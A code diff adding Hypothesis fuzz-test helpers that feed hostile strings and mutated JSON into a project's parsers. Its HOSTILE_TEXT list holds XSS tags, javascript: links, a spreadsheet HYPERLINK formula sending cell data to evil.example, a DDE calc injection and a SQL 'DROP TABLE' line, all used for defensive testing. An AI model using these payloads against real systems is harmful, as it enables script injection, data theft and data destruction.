@@ -158,3 +158,104 @@ def plan_problems(draw: st.DrawFn) -> PlanProblem:
         target_utilization=draw(floats(0.5, 1.0)),
         time_limit_s=30.0,
     )
+# ---- hostile input for the fuzz suite (tests/fuzz, issue 15) --------------------------------------------------
+
+#: XSS, markdown, formula and control-character payloads put into every string field.
+HOSTILE_TEXT = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(document.cookie)",
+    "[click](javascript:alert(1))",
+    "**bold** _it_ `code` # heading | pipe |",
+    "$x$ $$\\frac{1}{0}$$",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t\r\n\x00\x1b[31m",
+    "\u202e\u200b\ufeff",
+    "{{ 7*7 }} {% raw %}",
+    "'; DROP TABLE reviews; --",
+)
+
+
+def fuzz_scale() -> int:
+    """1 in CI (the default); 25 with ``LLMECON_FUZZ_PROFILE=long`` (scripts/fuzz_long)."""
+    import os
+
+    return 25 if os.environ.get("LLMECON_FUZZ_PROFILE") == "long" else 1
+
+
+def fuzz_settings(max_examples: int) -> settings:
+    """The fuzz profile. CI: ``max_examples``, derandomized (the same examples every run, so a failure
+    reproduces). Long run: 25× as many, randomly seeded (new examples each run; hypothesis prints the seed of
+    a failure). No deadline: a hang is caught by pytest-timeout instead."""
+    scale = fuzz_scale()
+    return settings(
+        max_examples=max_examples * scale,
+        derandomize=scale == 1,
+        deadline=None,
+        database=None,
+        suppress_health_check=list(HealthCheck),
+    )
+
+
+def hostile_text() -> st.SearchStrategy[str]:
+    """A payload, random unicode, or a mix of both."""
+    return st.one_of(
+        st.sampled_from(HOSTILE_TEXT),
+        st.text(max_size=40),
+        st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_TEXT), st.text(max_size=10)),
+    )
+
+
+def json_values(max_leaves: int = 20) -> st.SearchStrategy[object]:
+    """Any JSON value, including the non-standard NaN and Infinity and huge numbers."""
+    leaves = st.one_of(
+        st.none(),
+        st.booleans(),
+        st.integers(-(10**30), 10**30),
+        st.floats(allow_nan=True, allow_infinity=True),
+        hostile_text(),
+    )
+    return st.recursive(
+        leaves,
+        lambda inner: st.one_of(st.lists(inner, max_size=5), st.dictionaries(st.text(max_size=12), inner, max_size=5)),
+        max_leaves=max_leaves,
+    )
+
+
+@st.composite
+def mutated_json(draw: st.DrawFn, base: object) -> object:
+    """``base`` (a JSON document) with a few values replaced, keys deleted or added, or strings made hostile."""
+    import copy
+
+    doc = copy.deepcopy(base)
+    for _ in range(draw(st.integers(1, 4))):
+        path: list[object] = []
+        node = doc
+        while isinstance(node, (dict, list)) and node and draw(st.booleans()):
+            key = draw(st.sampled_from(sorted(node) if isinstance(node, dict) else list(range(len(node)))))
+            path.append(key)
+            node = node[key]  # type: ignore[index]
+        if not path:
+            continue
+        parent = doc
+        for key in path[:-1]:
+            parent = parent[key]  # type: ignore[index]
+        action = draw(st.sampled_from(["replace", "delete", "hostile", "add"]))
+        last = path[-1]
+        if action == "replace":
+            parent[last] = draw(json_values(5))  # type: ignore[index]
+        elif action == "delete":
+            del parent[last]  # type: ignore[arg-type]
+        elif action == "hostile":
+            parent[last] = draw(st.sampled_from(HOSTILE_TEXT))  # type: ignore[index]
+        elif isinstance(parent, dict):
+            parent[draw(st.text(min_size=1, max_size=10))] = draw(json_values(3))
+    return doc
+
+
+def nested(depth: int) -> str:
+    """JSON text nested ``depth`` levels deep."""
+    return "[" * depth + "]" * depth
